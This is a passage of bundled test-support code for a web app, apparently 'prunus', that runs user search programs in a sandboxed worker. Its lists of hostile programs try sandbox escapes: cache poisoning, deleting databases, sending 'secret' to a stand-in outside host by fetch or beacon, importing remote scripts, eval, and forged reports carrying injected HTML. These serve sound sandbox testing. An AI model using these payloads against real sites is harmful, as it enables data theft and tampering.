// tests/browsers/support/puppeteer.ts
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join as join3 } from "node:path";
import puppeteer from "puppeteer-core";

// scripts/lib/browsers.mjs
import { existsSync, readdirSync } from "node:fs";
import { join as join2 } from "node:path";

// scripts/lib/chromium.mjs
import { spawnSync } from "node:child_process";

// scripts/lib/run.mjs
import { accessSync, constants } from "node:fs";
import { delimiter, join, sep } from "node:path";
import { fileURLToPath } from "node:url";
var root = fileURLToPath(new URL("../..", import.meta.url));
function which(name) {
  const folders = name.includes(sep) ? [""] : (process.env.PATH ?? "").split(delimiter);
  return folders.map((folder2) => join(folder2, name)).find((path) => {
    try {
      accessSync(path, constants.X_OK);
      return true;
    } catch {
      return false;
    }
  });
}

// scripts/lib/chromium.mjs
var chromiumArguments = [
  "--no-sandbox",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--disable-quic",
  "--no-first-run"
];
var found;
function findChromium() {
  found ??= [process.env.CHROMIUM, "chromium", "chromium-browser", "google-chrome"].map((name) => name ? which(name) : void 0).find((path) => path !== void 0 && starts(path));
  return found;
}
function starts(path) {
  const { stdout, error } = spawnSync(path, ["--version"], { encoding: "utf8", timeout: 2e4 });
  const isSlow = error !== void 0 && "code" in error && error.code === "ETIMEDOUT";
  return isSlow || /\b(Chromium|Chrome)\b/.test(stdout);
}

// scripts/lib/browsers.mjs
function findBrowser(engine) {
  if (engine === "chromium") return findChromium();
  if (engine === "firefox") return which("firefox-esr") ?? which("firefox");
  return which("WebKitWebDriver") && which("Xvfb") ? miniBrowser() : void 0;
}
function executableOf(engine) {
  const path = findBrowser(engine);
  if (path === void 0) throw new Error(`There is no ${engine} on this machine.`);
  return path;
}
function miniBrowser() {
  for (const libraries of ["/usr/lib", "/usr/libexec", "/usr/lib64"]) {
    if (!existsSync(libraries)) continue;
    for (const name of readdirSync(libraries)) {
      const folders = [join2(libraries, name), libraries];
      for (const folder2 of folders) {
        for (const version of ["webkit2gtk-4.1", "webkitgtk-6.0", "webkit2gtk-4.0"]) {
          const path = join2(folder2, version, "MiniBrowser");
          if (existsSync(path)) return path;
        }
      }
    }
  }
  return void 0;
}

// tests/browsers/support/puppeteer.ts
var PATIENCE_MS = 24e4;
var STEPS = 8;
async function launchByPuppeteer(engine) {
  const folder2 = await mkdtemp(join3(tmpdir(), `prunus-${engine}-`));
  const browser = await puppeteer.launch({
    browser: engine === "firefox" ? "firefox" : "chrome",
    executablePath: executableOf(engine),
    headless: true,
    timeout: PATIENCE_MS,
    protocolTimeout: PATIENCE_MS,
    args: engine === "chromium" ? [...chromiumArguments, "--lang=en-US"] : [],
    extraPrefsFirefox: {
      "intl.accept_languages": "en-US",
      // Without a touch screen Firefox knows no fingers.
      "dom.w3c_touch_events.enabled": 1,
      "browser.download.folderList": 2,
      "browser.download.dir": folder2,
      "browser.download.useDownloadDir": true,
      "browser.helperApps.neverAsk.saveToDisk": "image/png,image/svg+xml,text/html"
    },
    downloadBehavior: { policy: "allow", downloadPath: folder2 }
  });
  return {
    engine,
    version: (await browser.version()).replace("/", " ").replace(/^Headless|^Chrome/i, "Chromium").replace(/^f/, "F"),
    downloads: folder2,
    open: async (size) => pageOf(await browser.newPage(), size),
    close: async () => {
      await browser.close();
      await rm(folder2, { recursive: true, force: true });
    }
  };
}
async function pageOf(page, size = { width: 1366, height: 768 }) {
  const problems = [];
  page.setDefaultTimeout(PATIENCE_MS);
  page.on("pageerror", (error) => problems.push(String(error)));
  page.on("console", (message) => {
    if (message.type() === "error") problems.push(message.text());
  });
  await page.evaluateOnNewDocument(() => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      console.error(`forbidden by ${effectiveDirective}: ${blockedURI}`);
    });
  });
  await page.setViewport(size);
  const { mouse, keyboard, touchscreen } = page;
  return {
    problems,
    goto: async (address) => {
      await page.goto(address, { waitUntil: "load" });
    },
    run: (body, given) => page.evaluate(body, given),
    click: async ({ x, y }) => mouse.click(x, y),
    drag: async ([first, ...others]) => {
      if (first === void 0) return;
      await mouse.move(first.x, first.y);
      await mouse.down();
      for (const { x, y } of others) await mouse.move(x, y, { steps: STEPS });
      await mouse.up();
    },
    wheel: async ({ x, y }, down) => {
      await mouse.move(x, y);
      await mouse.wheel({ deltaY: down });
    },
    pinch: async ({ x, y }, from, to) => {
      const left = await touchscreen.touchStart(x - from / 2, y);
      const right = await touchscreen.touchStart(x + from / 2, y);
      for (let step2 = 1; step2 <= STEPS; step2++) {
        const half = (from + (to - from) * step2 / STEPS) / 2;
        await left.move(x - half, y);
        await right.move(x + half, y);
      }
      await left.end();
      await right.end();
    },
    press: async (key) => keyboard.press(key),
    picture: async (path) => {
      await page.screenshot({ path: `${path}.png` });
    },
    close: async () => page.close()
  };
}

// tests/browsers/support/webdriver.ts
import { spawn } from "node:child_process";
import { mkdtemp as mkdtemp2, mkdir, rm as rm2, writeFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir as tmpdir2 } from "node:os";
import { join as join4 } from "node:path";
import { createInterface } from "node:readline";
var KEYS = {
  ArrowLeft: "\uE012",
  ArrowUp: "\uE013",
  ArrowRight: "\uE014",
  ArrowDown: "\uE015",
  Home: "\uE011",
  End: "\uE010",
  Enter: "\uE007",
  Escape: "\uE00C",
  Tab: "\uE004"
};
var STEPS2 = 8;
var PATIENCE_MS2 = 24e4;
async function launchWebKit() {
  const home = await mkdtemp2(join4(tmpdir2(), "prunus-webkit-"));
  const downloads = join4(home, "downloads");
  await mkdir(downloads);
  await mkdir(join4(home, ".config"));
  await writeFile(join4(home, ".config/user-dirs.dirs"), `XDG_DOWNLOAD_DIR="${downloads}"
`);
  const started = [];
  const screen = spawn(
    "Xvfb",
    ["-displayfd", "3", "-screen", "0", "1600x1000x24", "-nolisten", "tcp"],
    {
      stdio: ["ignore", "ignore", "ignore", "pipe"]
    }
  );
  started.push(screen);
  const display = await firstLine(screen.stdio[3]);
  const port = await freePort();
  const driver = spawn("WebKitWebDriver", [`--port=${port}`], {
    stdio: "ignore",
    env: {
      ...process.env,
      DISPLAY: `:${display}`,
      HOME: home,
      XDG_CONFIG_HOME: join4(home, ".config"),
      XDG_CACHE_HOME: join4(home, ".cache"),
      XDG_DATA_HOME: join4(home, ".local"),
      LANG: "C.UTF-8",
      // Its sandbox can't be had as root; what it opens here is our own.
      WEBKIT_DISABLE_SANDBOX_THIS_IS_DANGEROUS: "1",
      LIBGL_ALWAYS_SOFTWARE: "1",
      GSK_RENDERER: "cairo"
    }
  });
  started.push(driver);
  const ask = asker(`http://127.0.0.1:${port}`);
  await answering(ask);
  const { sessionId, capabilities } = await ask("POST", "/session", {
    capabilities: {
      alwaysMatch: {
        timeouts: { script: PATIENCE_MS2, pageLoad: PATIENCE_MS2 },
        "webkitgtk:browserOptions": {
          binary: executableOf("webkit"),
          args: ["--automation"]
        }
      }
    }
  });
  const session = (method, path, body) => ask(method, `/session/${sessionId}${path}`, body);
  return {
    engine: "webkit",
    version: `WebKitGTK ${capabilities.browserVersion}`,
    downloads,
    open: (size) => openPage(session, size),
    close: async () => {
      await session("DELETE", "").catch(() => void 0);
      for (const each of started.reverse()) each.kill();
      await rm2(home, { recursive: true, force: true, maxRetries: 5 });
    }
  };
}
async function openPage(ask, size = { width: 1366, height: 768 }) {
  const problems = [];
  await ask("POST", "/url", { url: "about:blank" });
  await ask("POST", "/window/rect", { x: 0, y: 0, ...size });
  const run = async (body, given) => {
    const script = `const [given, done] = arguments;
      Promise.resolve().then(() => (${body.toString()})(given)).then(
        (value) => done({ value }), (error) => done({ error: String(error) + error?.stack }));`;
    const told = await ask("POST", "/execute/async", {
      script,
      args: [given ?? null]
    });
    if (told.error !== void 0) throw new Error(told.error);
    return told.value;
  };
  const act = async (actions) => {
    await ask("POST", "/actions", { actions });
  };
  const mouse = (actions) => act([{ type: "pointer", id: "mouse", parameters: { pointerType: "mouse" }, actions }]);
  const move = ({ x, y }, duration = 0) => ({
    ...{ type: "pointerMove", origin: "viewport", duration },
    ...{ x: Math.round(x), y: Math.round(y) }
  });
  const down = { type: "pointerDown", button: 0 };
  const up = { type: "pointerUp", button: 0 };
  const listen = async () => {
    const told = await run(
      () => window.problems?.splice(0)
    );
    problems.push(...told ?? []);
  };
  return {
    problems,
    run: async (body, given) => {
      const result = await run(body, given);
      await listen();
      return result;
    },
    goto: async (address) => {
      await listen();
      await ask("POST", "/url", { url: address });
    },
    click: (at) => mouse([move(at), down, up]),
    drag: ([first, ...others]) => {
      if (first === void 0) return Promise.resolve();
      const way = others.flatMap((to, at) => between(at === 0 ? first : others[at - 1], to));
      return mouse([move(first), down, ...way.map((to) => move(to, 10)), up]);
    },
    wheel: async (at, deltaY) => {
      const scroll = { type: "scroll", origin: "viewport", deltaX: 0, deltaY, duration: 0 };
      const place = { x: Math.round(at.x), y: Math.round(at.y) };
      await act([{ type: "wheel", id: "wheel", actions: [{ ...scroll, ...place }] }]);
    },
    // WebKitGTK's driver has no fingers: the events of two are dispatched where they would be.
    pinch: (at, from, to) => run(dispatchPinch, { at, from, to, steps: STEPS2 }),
    press: (key) => {
      const value = KEYS[key] ?? key;
      const actions = [
        { type: "keyDown", value },
        { type: "keyUp", value }
      ];
      return act([{ type: "key", id: "keyboard", actions }]);
    },
    picture: async (path) => {
      await writeFile(
        `${path}.png`,
        Buffer.from(await ask("GET", "/screenshot"), "base64")
      );
    },
    close: async () => {
      await listen();
      await ask("POST", "/url", { url: "about:blank" });
    }
  };
}
function dispatchPinch(given) {
  const { at, from, to, steps } = given;
  let target = document.elementFromPoint(at.x, at.y);
  while (target?.shadowRoot) {
    const inner = target.shadowRoot.elementFromPoint(at.x, at.y);
    if (inner === null || inner === target) break;
    target = inner;
  }
  const tell = (type, finger, half) => target?.dispatchEvent(
    new PointerEvent(type, {
      ...{ bubbles: true, composed: true, cancelable: true, pointerType: "touch" },
      ...{ pointerId: 100 + finger, isPrimary: finger === 0, button: 0, buttons: 1 },
      ...{ clientX: at.x + (finger === 0 ? -half : half), clientY: at.y }
    })
  );
  for (const finger of [0, 1]) tell("pointerdown", finger, from / 2);
  for (let step2 = 1; step2 <= steps; step2++) {
    const half = (from + (to - from) * step2 / steps) / 2;
    for (const finger of [0, 1]) tell("pointermove", finger, half);
  }
  for (const finger of [0, 1]) tell("pointerup", finger, to / 2);
}
function between(from, to) {
  return Array.from({ length: STEPS2 }, (_, at) => {
    const share = (at + 1) / STEPS2;
    return { x: from.x + (to.x - from.x) * share, y: from.y + (to.y - from.y) * share };
  });
}
function asker(origin) {
  return async (method, path, body) => {
    const answer = await fetch(origin + path, {
      method,
      ...method === "POST" ? { body: JSON.stringify(body ?? {}) } : {},
      signal: AbortSignal.timeout(PATIENCE_MS2)
    });
    const { value } = await answer.json();
    if (!answer.ok) throw new Error(`${path}: ${value.error ?? ""}: ${value.message ?? ""}`);
    return value;
  };
}
async function answering(ask) {
  for (const began = Date.now(); ; ) {
    try {
      await ask("GET", "/status");
      return;
    } catch (error) {
      if (Date.now() - began > PATIENCE_MS2) throw error;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
}
function firstLine(stream) {
  return new Promise((resolve, reject) => {
    createInterface({ input: stream }).once("line", resolve).once("close", () => reject(new Error("Xvfb did not start")));
  });
}
function freePort() {
  return new Promise((resolve) => {
    const server = createServer().listen(0, "127.0.0.1", () => {
      const { port } = server.address();
      server.close(() => resolve(port));
    });
  });
}

// tests/web/support/built-site.ts
import { execFile } from "node:child_process";
import { cp, mkdtemp as mkdtemp3, readFile, rm as rm3 } from "node:fs/promises";
import { createServer as createServer2 } from "node:http";
import { tmpdir as tmpdir3 } from "node:os";
import { extname, join as join6, normalize } from "node:path";
import { promisify } from "node:util";
import { chromium } from "playwright";

// scripts/lib/packages.mjs
import { join as join5 } from "node:path";
var program = (name) => join5(root, "node_modules/.bin", name);

// tests/web/support/built-site.ts
var PREFIX = "/a/b/prunus/";
var TYPES = {
  ".html": "text/html",
  ".js": "text/javascript",
  ".css": "text/css",
  ".svg": "image/svg+xml"
};
async function buildSite(folder2, env = {}) {
  await promisify(execFile)(
    program("vite"),
    ["build", "--outDir", folder2, "--emptyOutDir", "--logLevel", "warn"],
    { cwd: root, env: { ...process.env, NODE_ENV: "production", ...env } }
  );
}
var BuiltSite = class _BuiltSite {
  folder;
  /** What was asked for and was not there, by its path in the folder. */
  missed = [];
  /** What the server says with each file besides its type. */
  headers = {};
  #server = null;
  #port = 0;
  constructor(folder2) {
    this.folder = folder2;
  }
  static async build(env = {}) {
    const folder2 = await mkdtemp3(join6(tmpdir3(), "prunus-site-"));
    await buildSite(folder2, env);
    const site2 = new _BuiltSite(folder2);
    await site2.serve();
    return site2;
  }
  /** The same once more, to be changed at will. */
  static async copyOf(built) {
    const folder2 = await mkdtemp3(join6(tmpdir3(), "prunus-site-"));
    await cp(built, folder2, { recursive: true });
    const site2 = new _BuiltSite(folder2);
    await site2.serve();
    return site2;
  }
  /** The address of its index.html, deep below the root of its server. */
  get url() {
    return `http://127.0.0.1:${this.#port}${PREFIX}`;
  }
  /** Serves the folder below PREFIX and nothing elsewhere, with no header but the type and `headers`. */
  async serve() {
    const server = createServer2((request, response) => {
      const { pathname } = new URL(request.url ?? "/", "http://localhost");
      const inside = pathname.startsWith(PREFIX) ? pathname.slice(PREFIX.length) : "?";
      const path = normalize(inside === "" ? "index.html" : inside);
      readFile(join6(this.folder, path)).then(
        (body) => {
          const type = TYPES[extname(path)] ?? "application/octet-stream";
          response.writeHead(200, { "content-type": type, ...this.headers }).end(body);
        },
        () => {
          this.missed.push(path);
          response.writeHead(404).end();
        }
      );
    });
    await new Promise((resolve) => {
      server.listen(this.#port, "127.0.0.1", resolve);
    });
    this.#port = server.address().port;
    this.#server = server;
  }
  /** Ends the server: nobody answers at its address any more. */
  async unplug() {
    const server = this.#server;
    this.#server = null;
    server?.closeAllConnections();
    await new Promise((resolve) => server?.close(resolve) ?? resolve(null));
  }
  async remove() {
    await this.unplug();
    await rm3(this.folder, { recursive: true, force: true });
  }
};

// tests/web/support/hostile-programs.ts
var javascript = (inside, below = "search(tree, true);") => `
function search(node, isMax) {
  ${inside}
  if (!Array.isArray(node)) return node;
  let best = isMax ? -Infinity : Infinity;
  for (const child of node) best = Math[isMax ? 'max' : 'min'](best, search(child, !isMax));
  return best;
}
${below}`;
var python = (inside, below = "search(tree, True)") => `
def search(node, is_max):
    ${inside}
    if not isinstance(node, list):
        return node
    values = []
    for child in node:
        values.append(search(child, not is_max))
    return max(values) if is_max else min(values)
${below}`;
var HOSTILE_JAVASCRIPT = [
  ["a loop without an end", javascript("while (true) {}"), "time", 3],
  ["a loop without a head", javascript("for (;;);"), "time", 3],
  [
    "a loop that nobody can look into",
    javascript('[..."x".repeat(40)].map(() => /(x+x+)+y/.test("x".repeat(40)));'),
    "hangs",
    null
  ],
  [
    "a loop that catches all",
    javascript("while (true) { try { while (true) {} } catch {} }"),
    null,
    null
  ],
  [
    "a recursion without an end",
    javascript("", "function f(x) { return f(x + 1); } f(0);"),
    "depth",
    null
  ],
  [
    "a search without an end",
    "function search(n) { return -search(n + 1); }\nsearch(0);",
    "depth",
    1
  ],
  [
    "too many calls",
    "function search(d) { if (d === 0) return 1; search(d - 1); search(d - 1); return 1; }\nsearch(40);",
    null,
    1
  ],
  ["what is no program", "function search(n) {\n  return (n;\n}", "syntax", 2],
  ["a text that never ends", "const a = `", "syntax", null],
  ["an error of its own", javascript('throw new Error("mine");'), "error", 3],
  ["something thrown that is no error", javascript("throw null;"), "error", null],
  ["a name that is not there", javascript("nowhere();"), "error", 3],
  ["NaN", javascript("if (node === 12) return NaN;"), "no-value", null],
  ["a text", javascript('if (node === 12) return "twelve";'), "no-value", 3],
  ["nothing", javascript("if (node === 12) return;"), "no-value", null],
  ["a pair of numbers", javascript("if (node === 12) return [1, 2];"), "error", null],
  ["a megabyte", javascript('console.log("x".repeat(1e6));'), null, null],
  [
    "other globals",
    'Array.prototype.push = () => 0; JSON.stringify = () => "{}"; Math.max = () => 7;\nObject.keys = null; Object.entries = null; Map.prototype.get = null;\n' + javascript(""),
    null,
    null
  ],
  ["the tracer itself", javascript("_prunus.enter = null; _prunus = 7;"), "error", 3],
  ["a name of the tracer", "let _prunus = 1;\n" + javascript(""), "syntax", 1],
  [
    "a message of its own",
    'postMessage({ kind: "done", report: null });\n' + javascript(""),
    "error",
    1
  ],
  [
    "a false report",
    `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { kind: 'done', report: { trace: 7 } });
` + javascript(""),
    null,
    null
  ],
  ["the end of its worker", "close();\n" + javascript(""), "error", 1],
  ["a request", 'fetch("/");\n' + javascript(""), "error", 1],
  ["no search at all", "const x = 1;", "no-call", null],
  ["nothing", "", "no-call", null],
  [
    "an async search",
    "async function search(n) { return n > 3 ? 1 : -(await search(n + 1)); }\nsearch(0);",
    "error",
    null
  ],
  ["a generator", "function* search(n) { yield* search(n); }\n[...search(0)];", null, null],
  ["much memory", javascript("(globalThis.all ??= []).push(new Array(1e6).fill(0));"), null, null],
  [
    "getters that throw",
    javascript(
      "",
      'search({ get length() { throw new Error("no"); }, toJSON() { throw new Error("no"); }, toString() { throw new Error("no"); } }, true);'
    ),
    null,
    null
  ]
];
var HOSTILE_PYTHON = [
  ["a loop without an end", python("while True: pass"), "time", 3],
  ["a recursion without an end", python("", "def f(x):\n    return f(x + 1)\nf(0)"), "depth", null],
  [
    "a search without an end",
    "def search(n):\n    return -search(n + 1)\nsearch(0)",
    "depth",
    null
  ],
  ["what is no program", "def search(n):\n    return (n\nsearch(0)", "syntax", null],
  ["an error of its own", python('raise ValueError("mine")'), "error", 3],
  ["an end of the process", python("import sys; sys.exit(3)"), "error", 3],
  ["a text", python('if node == 12: return "twelve"'), "no-value", 3],
  ["nothing", python("if node == 12: return"), "no-value", null],
  ["NaN", python('if node == 12: return float("nan")'), "no-value", 3],
  ["a megabyte", python('print("x" * 1000000)'), null, null],
  ["the tracer itself", python("global _prunus; _prunus = None"), "error", null],
  ["what the tracer uses", "repr = str = float = None\n" + python(""), null, null],
  ["the page", 'import js\njs.fetch("/")\n' + python(""), "error", null],
  [
    "an except for all",
    python(
      "while True:\n        try:\n            while True: pass\n        except BaseException: pass"
    ),
    "time",
    null
  ],
  ["much memory", python("global kept; kept = [0] * 100000000"), "error", 3],
  ["a module that is not there", "import numpy\n" + python(""), "error", 1]
];

// tests/browsers/support/attacks.ts
var BAIT = "prunus-bait";
var EVIL = "evil was here";
var KEEPER = `self.kept = {}; for (let on = self; on !== null; on = Object.getPrototypeOf(on)) for (const name of Object.getOwnPropertyNames(on)) try { kept[name] ??= self[name]; } catch {} for (const name of ['fetch', 'importScripts', 'postMessage', 'close', 'setTimeout']) kept[name] = kept[name].bind(self); `;
var HELP = `
const bait = '${BAIT}', evil = '${EVIL}';
const reach = (name) => {
  if (globalThis.kept?.[name] !== undefined) return kept[name];
  for (let on = globalThis; on !== null; on = Object.getPrototypeOf(on)) {
    const found = Object.getOwnPropertyDescriptor(on, name);
    const value = found?.get ? found.get.call(globalThis) : found?.value;
    if (value !== undefined) return typeof value === 'function' && !value.prototype ? value.bind(globalThis) : value;
  }
  throw new ReferenceError(name);
};
const tell = (...said) => reach('postMessage')(...said);
const empty = { step: [], node: [], line: [], name: [], value: [], names: [] };
const report = (more) => ({ kind: 'done', report: { trace: '', output: '', notes: empty, problem: null, searches: 0, root: '', result: '', ...more } });
const once = (target, good, bad) => new Promise((come, go) => { target['on' + good] = come; target['on' + bad] = () => go(bad); });
const asked = (request) => once(request, 'success', 'error').then(() => request.result);
const after = (time) => new Promise((come) => setTimeout(come, time));
const attack = async (what) => {
  Map.prototype.keys = () => { throw 0; };
  const late = after(4000).then(() => 'late');
  let said = '';
  try { said = 'came as far as ' + String(await Promise.race([what(), late])); } catch (error) { said = 'failed: ' + error; }
  tell(report({ output: 'over: ' + said.slice(0, 300) }));
};
`;
var written = (what, inside, more = {}) => ({
  ...{ what, written: "javascript", ...more },
  text: `${HELP}${javascript("")}
${inside}
`
});
var tries = (what, inside) => written(what, `attack(async () => { ${inside} });`);
function javascriptAttacks({ stranger, site: site2 }) {
  const blob = (text, type = "text/javascript") => `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: '${type}' }))`;
  const worker = (address, options = "{}") => `const Worker = reach('Worker'); const it = new Worker(${address}, ${options}); it.postMessage(0); return (await once(it, 'message', 'error')).data;`;
  const inWorker = `fetch('${stranger}nested').then(() => postMessage('fetched'), (error) => postMessage(String(error)));`;
  return [
    // As it was measured: the getter is on the prototype, and the entry script is the page's own ever after.
    tries(
      "the cached entry script, by the getter of the caches",
      `const get = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'caches').get;
      const caches = get.call(self); let count = 0;
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) if (request.url.endsWith('.js')) { count++; await cache.put(request, new Response('self.evil = evil', { headers: { 'content-type': 'text/javascript' } })); }
      }
      return count;`
    ),
    tries("a cache of the site", `return (await reach('caches').match(bait)).text();`),
    tries(
      "no cache left",
      `for (const name of await reach('caches').keys()) await reach('caches').delete(name); return reach('caches').delete(bait);`
    ),
    tries(
      "another entry in a cache",
      `const cache = await reach('caches').open(bait); await cache.put('${site2}${BAIT}', new Response(evil)); return evil;`
    ),
    tries(
      "a database",
      `const base = await asked(reach('indexedDB').open(bait)); const store = base.transaction(bait, 'readwrite').objectStore(bait); return asked(store.put(evil, bait));`
    ),
    tries(
      "no database left",
      `await asked(reach('indexedDB').deleteDatabase(bait)); return 'deleted';`
    ),
    tries(
      "the names of all databases",
      `const all = await reach('indexedDB').databases(); for (const { name } of all) await asked(reach('indexedDB').deleteDatabase(name)); if (all.length === 0) throw 'none'; return all.length;`
    ),
    tries("a request", `return (await reach('fetch')('${stranger}fetch')).status;`),
    tries(
      "a request that wants no answer",
      `return (await reach('fetch')('${stranger}blind', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })).type;`
    ),
    tries(
      "a request to the site",
      `return (await reach('fetch')('${site2}attacked-by-fetch', { credentials: 'include' })).status;`
    ),
    tries(
      "a file of the site",
      `return (await reach('fetch')('${site2}index.html', { cache: 'force-cache' })).text();`
    ),
    tries(
      "an XMLHttpRequest",
      `const X = reach('XMLHttpRequest'); const it = new X(); it.open('GET', '${stranger}xhr'); it.send(); return once(it, 'load', 'error');`
    ),
    tries(
      "an XMLHttpRequest that is waited for",
      `const X = reach('XMLHttpRequest'); const it = new X(); it.open('GET', '${stranger}sync', false); it.send(); return it.status;`
    ),
    tries(
      "a socket",
      `const S = reach('WebSocket'); return once(new S('${stranger}socket'.replace('http', 'ws')), 'open', 'error');`
    ),
    tries(
      "a stream of events",
      `const E = reach('EventSource'); return once(new E('${stranger}events'), 'open', 'error');`
    ),
    tries(
      "a transport",
      `const T = reach('WebTransport'); const it = new T('${stranger}transport'.replace('http', 'https')); it.closed.catch(() => 0); await it.ready; return 'ready';`
    ),
    tries(
      "a beacon",
      `const it = reach('navigator'); return it.sendBeacon('${stranger}beacon', 'secret');`
    ),
    tries(
      "a font",
      `const F = reach('FontFace'); await new F('evil', 'url(${stranger}font)').load(); return 'loaded';`
    ),
    tries(
      "a script of a stranger",
      `reach('importScripts')('${stranger}script.js'); return 'imported';`
    ),
    tries(
      "a script of the site",
      `reach('importScripts')('${site2}prunus-frames.js'); return 'imported';`
    ),
    tries(
      "a script in an address",
      `reach('importScripts')('data:text/javascript,1'); return 'imported';`
    ),
    tries("a script in a blob", `reach('importScripts')(${blob("1")}); return 'imported';`),
    tries("a module of a stranger", `return import('${stranger}module.js');`),
    tries("a module of the site", `return import('${site2}prunus-frames.js');`),
    tries("a module in an address", `return import('data:text/javascript,export default 1');`),
    tries("a module in a blob", `return import(${blob(`import '${stranger}module.js';`)});`),
    tries("a function made of a text", `return Function('return fetch("${stranger}function")')();`),
    tries(
      "a function made of a text, by the constructor of another",
      `return (async () => 0).constructor('return fetch("${stranger}async")')();`
    ),
    tries(
      "a function made of a text, by the constructor of an object of the tracer",
      `return _prunus.at.constructor('return self')().fetch('${stranger}tracer');`
    ),
    tries("a text that is run", `return reach('eval')('fetch("${stranger}eval")');`),
    tries(
      "a text that is run later",
      `reach('setTimeout')('fetch("${stranger}later")', 0); await after(300); return 'waited';`
    ),
    tries("a worker in a blob", worker(blob(inWorker))),
    tries(
      "a worker in a worker in a blob",
      worker(
        blob(
          `const it = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inWorker)}]))); it.onmessage = ({ data }) => postMessage(data);`
        )
      )
    ),
    tries(
      "a worker of modules in a blob",
      worker(
        blob(`import '${stranger}worker-module.js'; postMessage('imported');`),
        `{ type: 'module' }`
      )
    ),
    tries(
      "a worker in an address",
      worker(`'data:text/javascript,' + encodeURIComponent(${JSON.stringify(inWorker)})`)
    ),
    tries("a worker of the site", worker(`'${site2}service-worker.js'`)),
    tries(
      "a worker that others share",
      `const S = reach('SharedWorker'); new S(${blob(inWorker)}); new S('${site2}service-worker.js'); await after(300); return 'shared';`
    ),
    tries(
      "the worker of the site",
      `const it = reach('navigator').serviceWorker; return (await it.register('${site2}service-worker.js')).scope;`
    ),
    tries(
      "other pages",
      `const B = reach('BroadcastChannel'); const it = new B(bait); it.postMessage(evil); return Promise.race([once(it, 'message', 'messageerror'), after(300).then(() => { throw 'nobody'; })]);`
    ),
    tries("locks of the site", `return JSON.stringify(await reach('navigator').locks.query());`),
    tries(
      "files of the site",
      `const root = await reach('navigator').storage.getDirectory(); await root.getFileHandle(bait, { create: true }); return root.name;`
    ),
    tries(
      "an older file system",
      `return reach('webkitRequestFileSystemSync')(0, 1000).root.toURL();`
    ),
    tries("cookies", `return JSON.stringify(await reach('cookieStore').getAll());`),
    tries("the storage of the page", `return reach('localStorage').getItem(bait);`),
    tries("the document", `return reach('document').cookie;`),
    tries(
      "the address of the page",
      `self.location.href = '${stranger}location'; reach('location').assign('${stranger}assigned'); return 'gone';`
    ),
    tries("a window", `return reach('open')('${stranger}window');`),
    tries(
      "the page around it",
      `for (const name of ['parent', 'top', 'opener', 'frames']) try { reach(name).postMessage('refused', '*'); } catch {} reach('top').location = '${stranger}top'; return 'gone';`
    ),
    tries(
      "a connection of peers",
      `const P = reach('RTCPeerConnection'); const it = new P({ iceServers: [{ urls: 'stun:${new URL(stranger).host}' }] }); it.createDataChannel(bait); await it.setLocalDescription(); return 'begun';`
    ),
    tries(
      "WebAssembly that calls a request",
      `const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 97, 1, 98, 0, 0, 7, 5, 1, 1, 99, 0, 0]); let told = null; const { instance } = await WebAssembly.instantiate(bytes, { a: { b: () => { told = reach('fetch')('${stranger}wasm'); } } }); instance.exports.c(); return told;`
    ),
    tries(
      "ports for the page",
      `const { port1, port2 } = new MessageChannel(); tell({ kind: 'alive', line: 1, port: port2 }, [port2]); tell(report({ output: { port: 1 } })); return Promise.race([once(port1, 'message', 'messageerror'), after(300).then(() => { throw 'nobody'; })]);`
    ),
    written(
      "false reports",
      `const lies = [
      null, 7, [], { kind: 'done' }, { kind: 'refused' }, { kind: 'flood', __proto__: { kind: 'done' } }, report({ searches: -1 }), report({ searches: NaN }), report({ trace: {} }),
      report({ problem: { code: 'evil', line: 1, message: '' } }), report({ notes: { ...empty, step: [1] } }), report({ notes: { ...empty, step: { length: 2 ** 40 } } }), report({ notes: { ...empty, step: new Array(4e6) } }),
      report({ notes: { step: [0], node: [-5], line: [1], name: [0], value: ['x'], names: ['x'] } }), report({ notes: { step: [0], node: [0], line: [1], name: [7], value: ['x'], names: ['x'] } }),
      report({ notes: { step: [5, 1], node: [0, 0], line: [1, 1], name: [0, 0], value: ['x', 'x'], names: ['x'] } }), report({ trace: '\\n'.repeat(5e6) }), report({ result: 7 }), { kind: 'alive', line: 1e300 }, { kind: 'broken', line: 1, message: 'evil' },
    ]; for (const lie of lies) tell(lie);
    tell(report({ output: '<img src=x onerror="evil">', result: 'x'.repeat(1e6), root: '['.repeat(1e6), trace: '{"prunus":"trace"}\\n{"event":"enter","move":"<script>"}\\n'.repeat(1000), searches: 1 }));`
    ),
    written("a flood of messages", `for (;;) tell({ kind: 'alive', line: 1 });`),
    written(
      "a flood of what is none",
      `const many = Array.from({ length: 1e5 }, (_, at) => ({ at })); for (;;) tell(many);`
    ),
    written(
      "a flood from later on",
      `const flood = () => { for (let at = 0; at < 100; at++) tell({ kind: 'begun' }); setTimeout(flood); }; Map.prototype.keys = () => { throw 0; }; flood();`
    ),
    written(
      "a broken Map",
      `for (const name of Object.getOwnPropertyNames(Map.prototype)) try { Map.prototype[name] = () => { throw evil; }; } catch {}`
    ),
    written(
      "broken arrays",
      `for (const name of Object.getOwnPropertyNames(Array.prototype)) try { Array.prototype[name] = () => { throw evil; }; } catch {} Array.prototype[Symbol.iterator] = null;`
    ),
    written(
      "another postMessage",
      `self.postMessage = DedicatedWorkerGlobalScope.prototype.postMessage = () => { throw evil; }; self.onerror = () => true; Function.prototype.call = Function.prototype.apply = Function.prototype.bind = null;`
    ),
    written(
      "fields for all objects",
      `for (const name of ['kind', 'report', 'script', 'bytes', 'message', 'trace', 'problem', 'then', 'length']) Object.prototype[name] = 'done'; Object.defineProperty(Object.prototype, 'line', { get() { throw evil; }, set() { throw evil; } });`
    ),
    written(
      "values that look back",
